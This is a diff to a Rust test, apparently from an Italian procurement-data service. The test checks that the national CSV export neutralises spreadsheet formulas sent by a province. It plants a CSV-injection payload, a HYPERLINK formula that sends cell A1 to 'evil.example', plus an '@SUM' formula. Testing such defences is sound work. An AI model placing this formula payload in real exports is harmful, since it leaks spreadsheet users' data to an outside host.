@@ -3,22 +3,21 @@
 
 use pico_protocol::payload::Payload;
 
-use crate::support::{NodeLog, OPERATOR_TOKEN, TestApp, appalti};
+use crate::support::{OPERATOR_TOKEN, TestApp, appalti};
 
 const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Apri")"#;
 
 #[tokio::test]
 async fn national_csv_neutralises_formulas_a_province_sent() {
     let app = TestApp::spawn().await;
-    let mut tv = NodeLog::new("026", "treviso");
-    app.enrol(&tv);
+    let mut tv = app.enrolled("026", "treviso");
     let Payload::DatasetBatch(mut batch) = appalti("026", 0, 2) else {
         unreachable!()
     };
     batch.upserts[0][2] = HYPERLINK.to_owned().into();
     batch.upserts[1][2] = "@SUM(1;2)".to_owned().into();
     let entry = tv.next(&Payload::DatasetBatch(batch));
-    assert_eq!(app.push(&[&entry]).await.0, 200);
+    app.push_ok(&entry).await;
     let (status, csv) = app
         .get_text("/v1/datasets/appalti/rows?format=csv&sep=semicolon")
         .await;
